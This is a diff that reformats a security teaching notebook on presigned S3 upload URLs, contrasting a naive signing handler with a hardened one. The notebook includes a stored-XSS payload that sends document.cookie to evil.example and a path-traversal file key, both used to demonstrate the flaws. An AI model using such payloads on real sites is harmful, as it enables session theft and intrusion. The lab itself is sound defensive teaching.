@@ -56,7 +56,10 @@ from presignlab import parse_presigned_url
 from presignlab.diagnosis import diagnose
 from presignlab.lab import open_lab, send, show_error
 from presignlab.signing_service import (
-    ALLOWED_CONTENT_TYPES, api_gateway_event, make_hardened_handler, make_naive_handler,
+    ALLOWED_CONTENT_TYPES,
+    api_gateway_event,
+    make_hardened_handler,
+    make_naive_handler,
 )
 
 # %% [markdown]
@@ -77,7 +80,8 @@ lab = open_lab("04-the-signing-service")
 BUCKET = lab.create_bucket("uploads")
 SEED_BUCKET = lab.create_bucket("seed-era")
 lab.s3.put_bucket_ownership_controls(
-    Bucket=SEED_BUCKET, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]})
+    Bucket=SEED_BUCKET, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]}
+)
 lab.s3.delete_public_access_block(Bucket=SEED_BUCKET)
 now = lab.clock.now() if lab.clock else None
 
@@ -86,6 +90,7 @@ now = lab.clock.now() if lab.clock else None
 # Two small helpers: `call` runs a handler on the API Gateway proxy event for
 # `GET /presign?...` and returns the status and the decoded JSON body, and `plain_url` is
 # an object's unsigned URL (the presigned URL without its query), for anonymous reads.
+
 
 # %%
 def call(handler, **query):
@@ -319,8 +324,9 @@ codes
 # %%
 status, page = call(naive, filekey="cat.jpg", httpStatus="200", contentType="text/html")
 html = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
-stored = send("PUT", page["signed_url"], data=html,
-              headers={**ACL_HEADER, "Content-Type": "text/html"})
+stored = send(
+    "PUT", page["signed_url"], data=html, headers={**ACL_HEADER, "Content-Type": "text/html"}
+)
 assert stored.status == 200
 stored.status
 
@@ -354,16 +360,27 @@ served.header("Content-Type")
 
 # %%
 APP_ORIGIN = "http://localhost:3000"
-signer = lab.create_signer("upload-signer", {
-    "Version": "2012-10-17",
-    "Statement": [{"Effect": "Allow", "Action": "s3:PutObject",
-                   "Resource": f"arn:aws:s3:::{BUCKET}/uploads/*"}],
-})
+signer = lab.create_signer(
+    "upload-signer",
+    {
+        "Version": "2012-10-17",
+        "Statement": [
+            {
+                "Effect": "Allow",
+                "Action": "s3:PutObject",
+                "Resource": f"arn:aws:s3:::{BUCKET}/uploads/*",
+            }
+        ],
+    },
+)
 ids = count(1)
 hardened_log = logging.getLogger("hardened-handler")
 hardened = make_hardened_handler(
-    signer.client("s3"), BUCKET, id_factory=lambda: f"{next(ids):032x}",
-    logger=hardened_log, allowed_origins=[APP_ORIGIN],
+    signer.client("s3"),
+    BUCKET,
+    id_factory=lambda: f"{next(ids):032x}",
+    logger=hardened_log,
+    allowed_origins=[APP_ORIGIN],
 )
 ALLOWED_CONTENT_TYPES
 
@@ -372,8 +389,13 @@ ALLOWED_CONTENT_TYPES
 # expiry, now gets a URL for a key the server chose, valid for 15 minutes, with status 200:
 
 # %%
-status, answer = call(hardened, filekey="uploads/../../index.html", contentType="image/png",
-                      httpStatus="404", expires="86400")
+status, answer = call(
+    hardened,
+    filekey="uploads/../../index.html",
+    contentType="image/png",
+    httpStatus="404",
+    expires="86400",
+)
 assert status == 200
 assert re.fullmatch(r"uploads/[0-9a-f]{32}/index\.html", answer["key"])
 assert answer["expires_in"] == 900
@@ -423,10 +445,12 @@ swapped.status, swapped.code
 # handler sends the header only to the application's origin, so a page elsewhere cannot
 # read its answers from a browser:
 
+
 # %%
 def cors_answer(origin):
-    event = api_gateway_event(query={"filekey": "cat.png", "contentType": "image/png"},
-                              headers={"Origin": origin})
+    event = api_gateway_event(
+        query={"filekey": "cat.png", "contentType": "image/png"}, headers={"Origin": origin}
+    )
     return hardened(event, None)["headers"].get("Access-Control-Allow-Origin")
 
 
